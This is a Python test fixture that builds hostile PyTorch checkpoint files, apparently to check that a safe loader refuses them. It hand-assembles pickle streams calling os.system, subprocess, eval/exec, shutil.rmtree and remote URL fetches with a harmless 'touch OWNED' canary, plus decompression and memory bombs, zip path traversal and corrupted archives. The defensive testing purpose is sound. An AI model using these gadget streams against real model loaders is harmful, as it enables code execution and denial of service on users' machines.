"""Hostile checkpoint files, made from a seed: what an attacker writes into a pickle, and what damage does to a file.

`hostile_files(seed)` yields (name, content, whether code would run in a naive reader, the name that must be refused).
None of it is ever unpickled here.
"""

from __future__ import annotations

import io
import pickle
import random
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

import torch

CANARY = "OWNED"
_COMMAND = f"touch {CANARY}"
_CODE = f"open('{CANARY}', 'w').close()"

# callable, its text arguments: each of these runs code, fetches, reads or writes in a reader that calls it
GADGETS: tuple[tuple[str, str, tuple[str, ...]], ...] = (
    ("os", "system", (_COMMAND,)),
    ("posix", "system", (_COMMAND,)),
    ("nt", "system", (_COMMAND,)),
    ("os", "popen", (_COMMAND,)),
    ("os", "execlp", ("touch", "touch", CANARY)),
    ("os", "remove", (CANARY,)),
    ("subprocess", "Popen", (_COMMAND,)),
    ("subprocess", "check_output", (_COMMAND,)),
    ("builtins", "eval", (_CODE,)),
    ("builtins", "exec", (_CODE,)),
    ("__builtin__", "eval", (_CODE,)),
    ("__builtin__", "execfile", (CANARY,)),
    ("builtins", "compile", (_CODE, "x", "exec")),
    ("builtins", "open", (CANARY, "w")),
    ("io", "open", (CANARY, "w")),
    ("builtins", "getattr", ("os", "system")),
    ("builtins", "__import__", ("os",)),
    ("importlib", "import_module", ("antigravity",)),
    ("torch.hub", "load", ("somebody/repository", "model")),
    ("torch.hub", "load_state_dict_from_url", ("http://example.invalid/a.pt",)),
    ("torch", "load", (CANARY,)),
    ("torch.jit", "load", (CANARY,)),
    ("torch.serialization", "load", (CANARY,)),
    ("torch._utils", "_rebuild_device_tensor_from_numpy", ("x",)),
    ("torch.utils._config_module", "load_config", ("x",)),
    ("torch.distributed.rpc", "rpc_sync", ("x",)),
    ("torch.utils.data", "DataLoader", ("x",)),
    ("torch.package", "PackageImporter", (CANARY,)),
    ("torch.nn", "Module", ()),
    ("functools", "partial", ("os.system", _COMMAND)),
    ("functools", "reduce", ("x",)),
    ("operator", "attrgetter", ("system",)),
    ("operator", "methodcaller", ("system", _COMMAND)),
    ("runpy", "run_path", (CANARY,)),
    ("runpy", "_run_code", (_CODE,)),
    ("code", "interact", ()),
    ("pdb", "run", (_CODE,)),
    ("timeit", "timeit", (_CODE,)),
    ("cProfile", "run", (_CODE,)),
    ("bdb", "Bdb.run", (_CODE,)),
    ("pty", "spawn", (_COMMAND,)),
    ("pickle", "loads", ("cos\nsystem\n.",)),
    ("_pickle", "loads", ("cos\nsystem\n.",)),
    ("marshal", "loads", ("x",)),
    ("types", "FunctionType", ("x",)),
    ("types", "CodeType", ("x",)),
    ("ctypes", "CDLL", ("libc.so.6",)),
    ("shutil", "rmtree", (".",)),
    ("pathlib", "Path.write_text", (CANARY,)),
    ("pathlib", "Path.unlink", (CANARY,)),
    ("socket", "create_connection", ("x",)),
    ("urllib.request", "urlopen", ("http://example.invalid",)),
    ("webbrowser", "open", ("http://example.invalid",)),
    ("numpy", "load", (CANARY,)),
    ("numpy.testing._private.utils", "runstring", (_CODE,)),
    ("numpy.f2py.crackfortran", "myeval", (_CODE,)),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start", ("x",)),
    ("multiprocessing.util", "spawnv_passfds", ("x",)),
    ("copyreg", "_reconstructor", ("x",)),
    ("collections", "OrderedDict.update", ("x",)),
    ("argparse", "FileType.__call__", (CANARY,)),
    ("_codecs", "open", (CANARY,)),
    ("models", "a.os.system", (_COMMAND,)),
    ("utils", "os.system", (_COMMAND,)),
    ("models.yolo;os", "system", (_COMMAND,)),
    ("yaml", "unsafe_load", ("!!python/object/apply:os.system [x]",)),
)

# containers of a call: how deep in the file it hides
WRAPPINGS = ("bare", "in a list", "as a dict value", "memoised", "nested reduce", "state", "object", "beside a tensor")


@dataclass(frozen=True)
class Hostile:
    """A file: its `content`, and the dotted name that the message must say when it asks for a call."""

    name: str
    content: bytes
    refused: str | None


def hostile_files(seed: int = 0) -> Iterator[Hostile]:
    """Well over two hundred files, the same for the same seed."""
    generator = random.Random(seed)
    for number, (module, attribute, arguments) in enumerate(GADGETS):
        for wrapping in (WRAPPINGS[number % len(WRAPPINGS)], WRAPPINGS[(number * 3 + 1) % len(WRAPPINGS)]):
            protocol = generator.choice((0, 1, 2, 3, 4, 5))
            stream = _wrapped(_call(module, attribute, arguments, protocol), wrapping, protocol)
            container = generator.choice(("zip", "legacy"))
            content = zipped(stream) if container == "zip" else legacy(stream)
            label = f"{module}.{attribute} {wrapping}, protocol {protocol}, {container}"
            yield Hostile(label, content, f"{module}.{attribute}")
    for name, stream in _bombs().items():
        yield Hostile(f"{name} in a zip", zipped(stream), None)
        yield Hostile(f"{name} in the old stream", legacy(stream), None)
    yield from _archives()
    yield from _damaged(generator)


def zipped(stream: bytes, *, members: dict[str, bytes] | None = None, method: int = zipfile.ZIP_STORED) -> bytes:
    """The layout of torch ≥ 1.6 around any pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        archive.writestr("archive/data.pkl", stream)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/data/0", struct.pack("<4f", 1, 2, 3, 4))
        for name, content in (members or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def legacy(stream: bytes) -> bytes:
    """The layout before: magic number, protocol, system, content, keys, storages."""
    head = [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}]
    return b"".join(pickle.dumps(part, 2) for part in head) + stream + pickle.dumps([], 2)


def _text(value: str, protocol: int = 2) -> bytes:
    if protocol == 0:
        return b"V" + value.encode("raw_unicode_escape").replace(b"\n", b"\\u000a") + b"\n"
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if protocol >= 4 else b"X" + struct.pack("<I", len(raw)) + raw


def _call(module: str, attribute: str, arguments: tuple[str, ...], protocol: int) -> bytes:
    """Operations that leave the result of module.attribute(*arguments) on the stack."""
    if protocol >= 4:
        function = _text(module, protocol) + _text(attribute, protocol) + b"\x93"
    else:
        function = f"c{module}\n{attribute}\n".encode()
    return function + b"(" + b"".join(_text(one, protocol) for one in arguments) + b"tR"


def _tensor(numel: int = 4, offset: int = 0, size: int = 4, kind: str = "FloatStorage", key: str = "0") -> bytes:
    storage = (
        b"(" + _text("storage") + f"ctorch\n{kind}\n".encode() + _text(key) + _text("cpu") + _number(numel) + b"tQ"
    )
    rest = _number(offset) + _number(size) + b"\x85" + b"K\x01\x85\x89ccollections\nOrderedDict\n)R"
    return b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + rest + b"tR"


def _number(value: int) -> bytes:
    return pickle.dumps(value, 2)[2:-1]


def _wrapped(call: bytes, wrapping: str, protocol: int) -> bytes:
    head = bytes([0x80, protocol]) if protocol >= 2 else b""
    body = {
        "bare": call,
        "in a list": b"(lp0\n" + call + b"a",
        "as a dict value": b"(d" + _text("model") + call + b"s",
        "memoised": call + b"p7\n0g7\n",
        "nested reduce": b"ccollections\nOrderedDict\n((((" + _text("a") + call + b"tltltR",
        "state": b"cmodels.yolo\nModel\n)R}(" + _text("_modules") + call + b"ub",
        "object": b"cmodels.yolo\nModel\n(" + call + b"t\x81",
        "beside a tensor": b"(l" + _tensor() + b"a" + call + b"a",
    }[wrapping]
    return head + body + b"."


def _bombs() -> dict[str, bytes]:
    doubling = b"".join(b"(" + b"h" + bytes([i]) + b"h" + bytes([i]) + b"lq" + bytes([i + 1]) + b"0" for i in range(60))
    laughs = b"".join(
        b"(" + (b"h" + bytes([i])) * 10 + b"tq" + bytes([i + 1]) + b"0" for i in range(12)
    )  # ten of ten of ten … texts
    long_text = _text("A" * 60_000)
    return {
        "LONG4 of 2 GB": b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b"x.",
        "negative LONG4": b"\x80\x02\x8b" + struct.pack("<i", -5) + b"x.",
        "number of a million bits": b"\x80\x02\x8b" + struct.pack("<i", 125_000) + b"\x7f" * 125_000 + b".",
        "number of a million digits": b"L" + b"9" * 1_000_000 + b"L\n.",
        "BINBYTES8 of 2^62": b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"x.",
        "BINUNICODE8 of 2^63": b"\x80\x04\x8d" + struct.pack("<Q", 2**63) + b"x.",
        "BYTEARRAY8 of 2^40": b"\x80\x05\x96" + struct.pack("<Q", 2**40) + b"x.",
        "BINUNICODE of 4 GB": b"\x80\x02X" + struct.pack("<I", 2**32 - 1) + b"x.",
        "FRAME of 2^63": b"\x80\x04\x95" + struct.pack("<Q", 2**63 - 1) + b"N.",
        "huge memo index": b"\x80\x02Nr\xff\xff\xff\x7f0.",
        "tensor beyond its storage": b"\x80\x02" + _tensor(size=2**40) + b".",
        "tensor offset beyond its storage": b"\x80\x02" + _tensor(offset=2**60) + b".",
        "storage claimed huge": b"\x80\x02" + _tensor(numel=2**50, size=2**50) + b".",
        "storage of a negative length": b"\x80\x02" + _tensor(numel=-1) + b".",
        "tensor of a negative size": b"\x80\x02" + _tensor(size=-4) + b".",
        "storage key that climbs": b"\x80\x02" + _tensor(key="../../../etc/passwd") + b".",
        "lists nested 100,000 deep": b"\x80\x02" + b"(" * 100_000 + b"l" * 100_000 + b".",
        "tuples nested 100,000 deep": b"\x80\x02N" + b"\x85" * 100_000 + b".",
        "a list in itself": b"\x80\x02]q\x00h\x00a.",
        "doubling by memo": b"\x80\x02]q\x000" + doubling + b"h\x3c.",
        "billion laughs": b"\x80\x02" + long_text + b"q\x000" + laughs + b"h\x0c.",
        "a long text ten thousand times": b"\x80\x02(" + long_text + b"q\x00" + b"h\x00" * 10_000 + b"l.",
        "DUP a hundred thousand times": b"\x80\x02(N" + b"2" * 100_000 + b"l" + b"2" * 5 + b".",
        "marks without end": b"\x80\x02" + b"(" * 200_000,
        "a million operations and no end": b"\x80\x02" + b"N0" * 500_000,
        "dict keys that are deep": b"\x80\x02}N" + b"\x85" * 5_000 + b"Ns.",
        "a persistent id of another program": b"\x80\x02" + _text("../x") + b"Q.",
        "a text persistent id": b"Pfile:///etc/passwd\n.",
        "extension code": b"\x80\x02\x82\x01.",
        "state for a text": b"\x80\x02" + _text("x") + b"}b.",
        "OrderedDict of numbers": b"\x80\x02ccollections\nOrderedDict\n(]" + b"K\x01a" * 9 + b"tR.",
        "numpy of objects": b"\x80\x02cnumpy\ndtype\n" + _text("O") + b"\x85R.",
        "nothing": b"",
    }


def _archives() -> Iterator[Hostile]:
    harmless = pickle.dumps({"a": 1}, 2)
    yield Hostile("deflated pickle of 50 MB of zeros", zipped(b"\0" * 50_000_000, method=zipfile.ZIP_DEFLATED), None)
    traversing = dict.fromkeys(("../../OWNED", "/tmp/OWNED", "archive/data/../../OWNED", "C:\\OWNED"), b"x")
    yield Hostile("members that climb out", zipped(harmless, members=traversing), None)
    yield Hostile("a zip in a zip", zipped(zipped(zipped(harmless))), None)
    good = zipped(harmless)
    for name, at, value in (
        ("size of 4 GB in the directory", 24, b"\xff\xff\xff\xfe"),
        ("negative header offset", 42, b"\xff\xff\xff\xff"),
        ("another compression", 10, b"\x63\x00"),
        ("encrypted", 8, b"\x01\x00"),
        ("a patch", 8, b"\x20\x00"),
    ):
        start = good.index(b"PK\x01\x02") + at
        yield Hostile(name, good[:start] + value + good[start + len(value) :], None)
    yield Hostile("forty thousand members", zipped(harmless, members={f"archive/{i}": b"" for i in range(4_000)}), None)
    yield Hostile("two archives in a row", good + good, None)
    yield Hostile("a zip after a web page", b"<html>" + good, None)


def _damaged(generator: random.Random) -> Iterator[Hostile]:
    """Files of torch.save cut short, and with bytes changed: each is read or refused, and never anything else."""
    for form in (True, False):
        buffer = io.BytesIO()
        value = {"model": torch.arange(12.0), "epoch": 3, "names": ["a", "b"], "opt": {"lr": 0.1}}
        torch.save(value, buffer, _use_new_zipfile_serialization=form)
        content = buffer.getvalue()
        label = "zip" if form else "old stream"
        for number in range(20):
            yield Hostile(f"{label} cut short {number}", content[: generator.randrange(len(content))], None)
        for number in range(40):
            spoilt = bytearray(content)
            for _ in range(generator.choice((1, 1, 2, 8))):
                spoilt[generator.randrange(len(spoilt))] ^= 1 << generator.randrange(8)
            yield Hostile(f"{label} with flipped bits {number}", bytes(spoilt), None)
